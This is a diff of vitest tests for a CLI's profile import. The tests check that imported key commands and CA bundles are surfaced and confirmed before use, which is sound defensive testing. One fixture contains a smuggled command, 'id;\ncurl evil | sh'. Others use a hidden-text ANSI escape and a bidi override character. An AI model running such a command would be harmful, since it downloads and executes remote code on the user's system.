@@ -1,4 +1,4 @@
-import { readFile, writeFile } from 'node:fs/promises';
+import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, it, test } from 'vitest';
 import { configured } from '../support/configured.ts';
@@ -87,6 +87,66 @@ describe('profiles import', () => {
     expect(JSON.parse((await run('profiles list')).stdout).length).toBe(1);
   });
 
+  const withKey = (key: object) =>
+    JSON.stringify({
+      version: 1,
+      profiles: { live: { baseUrl: 'https://a.example', key: { store: 'command', ...key } } },
+    });
+  it.each([
+    [{ command: "echo  'a  b'" }, "live: echo 'a  b'"],
+    [{ command: 'echo a\n\nb' }, 'live: echo a b'],
+    [{ command: "echo 'a\n\u001b[8mb'" }, String.raw`live: echo 'a\u000a'"$(printf '\033')"'[8mb'`],
+    [
+      { command: 'id;\ncurl evil | sh', shell: true },
+      String.raw`live: through the shell: id;\u000acurl evil | sh`,
+    ],
+    [{ command: 'a\u202eb', shell: true }, String.raw`live: through the shell: a\u202eb`],
+  ])('shows the command as it would run: %j', async (key, shown) => {
+    const { run } = await configured();
+    const { exitCode, stderr } = await run('profiles import -', {
+      stdin: withKey({ ...key, origin: 'https://a.example' }),
+    });
+    expect([exitCode, JSON.parse(stderr).error.message]).toEqual([
+      2,
+      `From now on these commands will run for the keys of their profiles: ${shown}.`,
+    ]);
+  });
+
+  it('asks before it trusts certificate authorities that somebody else names', async () => {
+    const { run, config } = await configured();
+    const folder = join(config, '../elsewhere');
+    await mkdir(folder);
+    const exportedWith = JSON.stringify({
+      version: 1,
+      profiles: { live: { baseUrl: 'https://a.example', caBundle: 'ca.pem' } },
+    });
+    await writeFile(join(folder, 'profiles.json'), exportedWith);
+    const asked = await run('profiles import elsewhere/profiles.json');
+    expect([asked.exitCode, errorOf(asked).message, errorOf(asked).hint]).toEqual([
+      2,
+      `From now on whoever has a certificate of the authorities in these files can pass for the service: live: ${folder}/ca.pem.`,
+      'Nothing was changed. Use --yes to go ahead without being asked.',
+    ]);
+    expect(JSON.parse((await run('profiles list')).stdout).length).toBe(1);
+    const imported = await run('profiles import elsewhere/profiles.json --yes');
+    expect(JSON.parse(imported.stdout)[0].caBundle).toBe(`${folder}/ca.pem`);
+    await run('profiles import - --yes --replace', { stdin: exportedWith });
+    expect(JSON.parse((await run('profiles show live')).stdout).caBundle).toBe(join(config, '..', 'ca.pem'));
+  });
+
+  it('a relative path that is kept already follows no current directory: exit 2', async () => {
+    const { run, config } = await configured();
+    await mkdir(config, { mode: 0o700 });
+    const kept = { profiles: { live: { baseUrl: 'https://127.0.0.1:9', caBundle: 'ca.pem' } } };
+    await writeFile(join(config, 'config.json'), JSON.stringify(kept), { mode: 0o600 });
+    const env = { RESALE_CLIENT_ID: 'client', RESALE_API_KEY: key };
+    expect(errorOf(await run('listings list -p live', { env }))).toMatchObject({
+      code: 'usage',
+      message: 'The profile "live" names its certificate authorities by a relative path, ca.pem.',
+      hint: 'Name them by an absolute one: resale profiles set live caBundle=$PWD/FILE',
+    });
+  });
+
   it('replaces none, unless told to', async () => {
     const { run } = await withTwo();
     const screen = await run('profiles import - --yes', { stdin: text });
@@ -128,6 +188,19 @@ describe('profiles import', () => {
     [
       file({ live: { baseUrl: 'https://a.example', key: { store: 'keyring', entry: 'live' } } }),
       ['profiles.live.key.store must be command', 'profiles.live.key.command is missing'],
+    ],
+    [
+      file({
+        live: {
+          baseUrl: 'https://a.example',
+          dialect: { names: { 'header.clientId': 'X-`canary`' } },
+          key: { store: 'command', command: 'cat canary | tac', origin: 'https://a.example' },
+        },
+      }),
+      [
+        'profiles.live.dialect.header.clientId must be the name of a header, such as X-Acme-Client-Id: letters, digits, -, _ and .',
+        'profiles.live.key.command contains |, which needs a shell',
+      ],
     ],
     [
       file({ sandbox: { baseUrl: 'https://a.example' } }),
